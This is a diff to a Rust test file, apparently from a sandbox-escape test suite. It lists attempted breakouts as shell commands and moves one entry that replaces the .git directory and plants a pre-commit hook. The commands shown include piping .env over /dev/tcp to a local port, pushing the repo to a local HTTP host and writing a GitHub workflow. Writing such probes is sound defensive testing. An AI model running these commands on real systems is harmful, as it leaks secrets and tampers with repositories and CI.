@@ -113,11 +113,6 @@ pub(super) static ATTEMPTS: [Attempt; 30] = [
         By::Run("mkdir -p .github/workflows; echo 'on: push' > .github/workflows/x.yml"),
     ),
     attempt(
-        "runs-7",
-        "move the git directory away",
-        By::Run("mv .git g; mkdir -p .git/hooks; echo x > .git/hooks/pre-commit"),
-    ),
-    attempt(
         "net-1",
         "dial the host by TCP",
         By::Run("exec 3<>/dev/tcp/127.0.0.1/{tcp} && cat .env >&3"),
@@ -151,6 +146,11 @@ pub(super) static ATTEMPTS: [Attempt; 30] = [
         "git-2",
         "push from a command",
         By::Run("git push http://127.0.0.1:{tcp}/x.git HEAD"),
+    ),
+    attempt(
+        "git-3",
+        "move the git directory away",
+        By::Run("mv .git g; mkdir -p .git/hooks; echo x > .git/hooks/pre-commit"),
     ),
     attempt(
         "proc-1",
